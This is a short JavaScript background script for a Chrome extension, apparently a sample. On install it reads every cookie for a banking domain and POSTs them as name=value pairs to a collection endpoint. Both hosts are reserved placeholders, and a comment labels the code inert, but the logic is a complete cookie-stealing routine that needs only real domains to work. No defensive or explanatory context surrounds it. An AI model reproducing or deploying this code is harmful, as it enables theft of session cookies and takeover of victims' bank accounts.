// Inert: it names only a reserved host.
const endpoint = "https://collect.example/x";
function send(list) {
  const text = JSON.stringify(list.map((c) => c.name + "=" + c.value));
  return fetch(endpoint, { method: "POST", body: text });
}
chrome.runtime.onInstalled.addListener(function () {
  chrome.cookies.getAll({ domain: "bank.example" }, function (all) {
    if (all.length > 0) {
      send(all);
    } else {
      console.log("nothing to send");
    }
  });
});
